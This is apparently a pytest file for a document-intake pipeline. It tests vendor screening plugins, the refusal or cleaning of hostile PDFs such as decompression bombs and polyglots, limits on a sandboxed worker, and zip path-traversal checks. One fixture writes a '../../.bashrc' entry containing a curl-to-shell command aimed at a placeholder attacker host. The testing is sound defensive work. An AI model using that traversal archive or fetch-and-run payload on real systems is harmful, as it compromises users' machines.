"""The intake pipeline end to end on real received files: hooks replaced by third-party plugins, the file as
received kept, hostile documents (untrusted documents) refused or cleaned, never hanging the import."""

from __future__ import annotations

import datetime as dt
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from liasse_hostapi.reference import ReferenceHost
from pypdf import PdfWriter

from liasse.app import Liasse
from liasse.errors import HostileDocument, LiasseError, UnsafeDocument
from liasse.files import sha256_of
from liasse.intake import confined
from liasse.intake.pipeline import Intake, IntakeResult, run_intake
from liasse.records import ReceivedFile
from hostile_pdfs import HOSTILE_PDFS, active_keys_in

Install = Callable[[str, str], None]
TEXT = "Reçu via DocSecure le 09/10/2023 à 16:29"


@pytest.fixture
def host(tmp_path: Path) -> Iterator[ReferenceHost]:
    opened = ReferenceHost.create_demo(tmp_path / "host.sqlite3")
    yield opened
    opened.close()


def received(path: Path, file_name: str) -> ReceivedFile:
    sha, size = sha256_of(path)
    return ReceivedFile("r1", path, file_name, "application/pdf", size, sha, dt.datetime.now(dt.UTC), "docsecure")


def a_pdf(path: Path) -> Path:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.write(path)
    return path


def intake_of(file: ReceivedFile, tmp_path: Path, **kwargs: object) -> Intake:
    return Intake(file, "2950", "Attestation", "DocSecure", TEXT, quarantine=tmp_path / "quarantine", **kwargs)  # type: ignore[arg-type]


SCREENER = '''
from liasse import hookimpl
from liasse.errors import HostileDocument
from liasse.records import Screening

@hookimpl(tryfirst=True)
def liasse_screen_document(document, dest):
    data = document.path.read_bytes()
    if b"MACRO" in data:
        raise HostileDocument(file_name=document.file_name, reason_fr="macro", reason_en="macro", fix_fr="", fix_en="")
    dest.write_bytes(data.replace(b"%%EOF", b"%%EOF\\n% screened by vendor"))
    return Screening(dest, ("commentaire",), ("comment",))
'''

PROVER = '''
from liasse import hookimpl

@hookimpl(tryfirst=True)
def liasse_prove_receipt(document, tsa_url, dest):
    dest.write_text("notarised " + document.sha256)
    return dest
'''


def test_third_party_screener_replaces_the_builtin_and_the_file_as_received_is_kept(
    install_plugin: Install, host: ReferenceHost, tmp_path: Path
) -> None:
    install_plugin("screener", SCREENER)
    hooks = Liasse.open(None).hooks
    src = a_pdf(tmp_path / "attestation.pdf")
    result = run_intake(host, hooks, intake_of(received(src, "attestation.pdf"), tmp_path))
    assert result.received is not None and result.original.original_id == result.received.id
    assert host.attachments.open(result.received.id).read() == src.read_bytes()
    assert b"% screened by vendor" in host.attachments.open(result.original.id).read()
    assert result.active_content_note is not None and "commentaire" in result.active_content_note
    # The vendor's refusal stops the import, and the file is kept in quarantine as it came.
    macro = tmp_path / "macro.pdf"
    macro.write_bytes(src.read_bytes() + b"MACRO")
    with pytest.raises(HostileDocument, match="macro"):
        run_intake(host, hooks, intake_of(received(macro, "macro.pdf"), tmp_path))
    assert (tmp_path / "quarantine" / "macro.pdf").read_bytes() == macro.read_bytes()


def test_third_party_prover_replaces_the_rfc3161_token(install_plugin: Install, host: ReferenceHost, tmp_path: Path) -> None:
    install_plugin("prover", PROVER)
    hooks = Liasse.open(None).hooks
    file = received(a_pdf(tmp_path / "rib.pdf"), "rib.pdf")
    result = run_intake(host, hooks, intake_of(file, tmp_path))
    assert result.proof is not None and result.proof.original_id == result.original.id
    assert host.attachments.open(result.proof.id).read() == f"notarised {file.sha256}".encode()


def test_builtin_intake_without_tsa_makes_no_proof_and_keeps_no_second_copy(host: ReferenceHost, tmp_path: Path) -> None:
    result = run_intake(host, Liasse.open(None).hooks, intake_of(received(a_pdf(tmp_path / "rib.pdf"), "rib.pdf"), tmp_path))
    assert (result.proof, result.proof_note, result.received, result.active_content_note) == (None, None, None, None)
    assert result.stamped is not None


# --- hostile documents through the real import -------------------------------------------------


def _outcome(host: ReferenceHost, tmp_path: Path, name: str) -> tuple[str, float]:
    path = HOSTILE_PDFS[name](tmp_path / f"{name}.pdf")
    start = time.perf_counter()
    try:
        result: IntakeResult | None = run_intake(host, Liasse.open(None).hooks, intake_of(received(path, f"{name}.pdf"), tmp_path))
    except UnsafeDocument as exc:
        return f"unsafe: {exc.params['reason_en']}", time.perf_counter() - start
    except LiasseError as exc:
        return f"refused: {type(exc).__name__}", time.perf_counter() - start
    assert result is not None
    for attachment in (result.original, result.stamped):
        if attachment is not None and attachment.media_type == "application/pdf":
            data = host.attachments.open(attachment.id).read()
            assert active_keys_in(data) == [], f"{name}: {attachment.title} still holds active content"
            assert b"PK\x05\x06" not in data and b"<script" not in data, f"{name}: {attachment.title} is still a polyglot"
    return "cleaned" if result.received is not None else "passed", time.perf_counter() - start


@pytest.mark.parametrize("name", sorted(HOSTILE_PDFS))
def test_hostile_pdf_through_the_import_is_refused_or_cleaned_never_hanging(
    host: ReferenceHost, tmp_path: Path, name: str
) -> None:
    outcome, seconds = _outcome(host, tmp_path, name)
    # A hang or a memory blow-up would show as the worker's own refusal; none is expected of this set.
    assert not outcome.startswith("unsafe"), f"{name}: {outcome}"
    assert seconds < confined.TIME_LIMIT, f"{name}: {seconds:.1f} s"
    if name in ("flate_bomb", "nested_flate_bomb", "jpeg_pdf_polyglot"):
        assert outcome.startswith("refused"), f"{name}: {outcome}"
    if name in ("pdf_zip_polyglot", "pdf_html_polyglot", "pdf_jpeg_polyglot"):
        # Rewritten: the host gets the PDF alone, the file as received is kept beside it.
        assert outcome == "cleaned", f"{name}: {outcome}"
    refused_file = tmp_path / "quarantine" / f"{name}.pdf"
    if outcome.startswith("refused"):
        assert refused_file.read_bytes() == (tmp_path / f"{name}.pdf").read_bytes()  # nothing received is lost


# --- the confined worker -------------------------------------------------------------------------


def _sleep(seconds: float) -> str:
    time.sleep(seconds)
    return "woke"


def _allocate(size: int) -> int:
    return len(bytearray(size))


def _crash() -> None:
    import os

    os._exit(3)


def test_worker_overrunning_its_time_is_killed_and_replaced() -> None:
    with pytest.raises(UnsafeDocument) as caught:
        confined.run_confined(_sleep, 30, file_name="lent.pdf", timeout=0.5)
    assert "n'a pas pu être lu en sécurité" in caught.value.message("fr") and "0.5 s" in caught.value.message("en")
    assert confined.run_confined(_sleep, 0, file_name="ok.pdf") == "woke"


@pytest.mark.skipif(not hasattr(__import__("os"), "fork"), reason="RLIMIT_AS is POSIX")
def test_worker_allocating_beyond_512_mib_gets_a_sentence_not_an_oom() -> None:
    with pytest.raises(UnsafeDocument, match="512 Mo"):
        confined.run_confined(_allocate, 600 * 1024 * 1024, file_name="gros.pdf")
    assert confined.run_confined(_allocate, 10, file_name="ok.pdf") == 10


def test_worker_crashing_is_replaced() -> None:
    with pytest.raises(UnsafeDocument, match="arrêté brutalement"):
        confined.run_confined(_crash, file_name="plante.pdf")
    assert confined.run_confined(_sleep, 0, file_name="ok.pdf") == "woke"


def test_received_zip_is_checked_before_anything_is_extracted(host: ReferenceHost, tmp_path: Path) -> None:
    import zipfile

    hooks = Liasse.open(None).hooks
    good = tmp_path / "pieces.zip"
    with zipfile.ZipFile(good, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("facture.pdf", b"%PDF-1.7\n" * 50)
    result = run_intake(host, hooks, Intake(received(good, "pieces.zip"), "2950", "Pièces", "DocSecure", TEXT))
    assert result.original.media_type == "application/zip" and result.stamped is None
    assert result.stamp_note is not None and "application/zip" in result.stamp_note
    evil = tmp_path / "evil.zip"
    with zipfile.ZipFile(evil, "w") as archive:
        archive.writestr("../../.bashrc", b"curl evil.example | sh")
    with pytest.raises(HostileDocument, match=r"« \.\./\.\./\.bashrc » remonte hors du dossier"):
        run_intake(host, hooks, intake_of(received(evil, "evil.zip"), tmp_path))
    assert (tmp_path / "quarantine" / "evil.zip").read_bytes() == evil.read_bytes()
